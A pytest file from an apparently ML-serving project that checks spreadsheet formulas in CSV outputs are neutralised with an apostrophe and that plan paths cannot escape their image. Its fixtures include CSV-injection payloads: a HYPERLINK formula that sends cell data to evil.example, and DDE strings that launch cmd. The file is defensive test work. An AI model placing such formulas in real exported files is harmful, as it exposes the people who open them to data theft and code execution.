"""CSV files that people open in a spreadsheet start no formula; identifiers and numbers are as they came."""

from pathlib import Path

import pandas as pd
import pytest

from noria.batch import predict_file
from noria.bundle import Bundle
from noria.config import UseCase
from noria.data.validation import write_quarantine
from noria.monitoring import join_labels
from noria.predictions import PredictionStore
from noria.predictions.erasure import EntityMatcher
from noria.predictions.erasure.table_erasure import clean_csv
from noria.tabular.spreadsheet_text import for_people
from noria.traffic.activation import PLAN_FILE, TrafficPlan, built_in_plan
from tests.bundles import changed, churn, make
from tests.errors_raised import raises
from tests.predicted import prediction_event

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"open")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]
PLAIN = ["-1.5", "+49 171 2345", "-1,234.5", "-1.5e-7", "- ", "-", "=", "a=b", "'=quoted", "-12 %", "1-2"]


def texts_of(file: Path) -> list[str]:
    """All cells as text, header included."""
    table = pd.read_csv(file, dtype=str, keep_default_na=False, header=None)
    return [str(text) for row in table.to_numpy().tolist() for text in row]


def starts_formula(text: str) -> bool:
    return any(text.startswith(formula) for formula in FORMULAS)


@pytest.mark.parametrize("dtype", ["str", object])
def test_formulas_get_an_apostrophe_and_nothing_else_changes(dtype: type | str) -> None:
    values = pd.Series([*FORMULAS, *PLAIN], dtype=dtype)
    frame = pd.DataFrame({"text": values, "mixed": pd.Series([*values[:-1], 5], dtype=object), "n": -1.5}).assign(
        id=values
    )
    safe = for_people(frame, keep=["id"])
    expected = [*(f"'{formula}" for formula in FORMULAS), *PLAIN]
    expected[expected.index("- ")] = "'- "
    assert safe["text"].tolist() == expected
    assert safe["mixed"].tolist() == [*expected[:-1], 5]
    assert safe["n"].tolist() == frame["n"].tolist()
    assert safe["id"].tolist() == frame["id"].tolist()
    assert list(for_people(pd.DataFrame({FORMULA: [1], "-": [2]}))) == [f"'{FORMULA}", "-"]


def test_quarantined_rows_start_no_formula_and_a_person_in_them_can_be_erased(tmp_path: Path) -> None:
    file = tmp_path / "training.csv"
    rows = pd.DataFrame({"reason": FORMULAS, "customer": FORMULAS, FORMULA: FORMULAS, "tenure": -1})
    write_quarantine(rows, file)
    assert not any(map(starts_formula, texts_of(file)))
    assert "-1" in texts_of(file)
    assert clean_csv(file, EntityMatcher("churn", "customer", "churn", [FORMULAS[1]], [])) == 1


@pytest.fixture(scope="module")
def use_case() -> UseCase:
    return changed(churn().use_case, data={"id": "customer"})


@pytest.fixture(scope="module")
def bundle(use_case: UseCase, tmp_path_factory: pytest.TempPathFactory) -> Bundle:
    return make(churn()._replace(use_case=use_case), "tree", tmp_path_factory.mktemp("formulas") / "bundle")


def test_predictions_in_csv_start_no_formula_and_join_by_identifier(bundle: Bundle, tmp_path: Path) -> None:
    formulas = FORMULAS[:-1]
    rows = churn().test.head(len(formulas)).drop(columns="churn").assign(customer=formulas, note=formulas)
    rows["contract"] = formulas  # warnings tell of them
    rows["balance"] = "-1.5"
    bad = rows.head(1).assign(tenure=FORMULA)
    pd.concat([rows, bad]).to_csv(tmp_path / "in.csv", index=False)
    target, quarantine = tmp_path / "out.csv", tmp_path / "bad.csv"
    summary = predict_file(bundle, tmp_path / "in.csv", target, chunk_rows=3, quarantine=quarantine)
    assert summary.quarantined == 1
    out = pd.read_csv(target, dtype=str, keep_default_na=False)
    assert out["customer"].tolist() == [*formulas, FORMULA]
    assert set(out["balance"]) == {"-1.5"}
    others = out.drop(columns="customer").to_numpy().ravel().tolist()
    assert not any(map(starts_formula, others))
    assert not any(map(starts_formula, texts_of(quarantine)))


def test_refused_labels_keep_their_identifiers(use_case: UseCase, bundle: Bundle, tmp_path: Path) -> None:
    store = PredictionStore(f"sqlite:///{tmp_path / 'p.db'}")
    store.ingest([prediction_event(bundle.manifest.created_at, {"a": 1}, entity="+1+1")])
    labels, refused = tmp_path / "labels.csv", tmp_path / "refused.csv"
    pd.DataFrame({"customer": ["+1+1"], "churn": [FORMULA]}).to_csv(labels, index=False)
    join_labels(store, str(labels), use_case, bundle.manifest, quarantine=refused, at=bundle.manifest.created_at)
    told = pd.read_csv(refused, dtype=str)
    assert told["customer"].tolist() == ["+1+1"]
    assert told["churn"].tolist() == [f"'{FORMULA}"]
    told.assign(churn="Yes").to_csv(labels, index=False)  # corrected, it comes back
    joined = join_labels(
        store, str(labels), use_case, bundle.manifest, quarantine=refused, at=bundle.manifest.created_at
    )
    assert joined.joined == 1
    store.close()


@pytest.mark.parametrize("place", ["../elsewhere", "/elsewhere"])
def test_a_plan_in_an_image_names_no_bundle_outside(tmp_path: Path, place: str) -> None:
    plan = TrafficPlan.of(Path(place), "1")
    (tmp_path / PLAN_FILE).write_text(plan.model_dump_json(), encoding="utf-8")
    with raises("traffic.plan_unreadable"):
        built_in_plan(tmp_path)
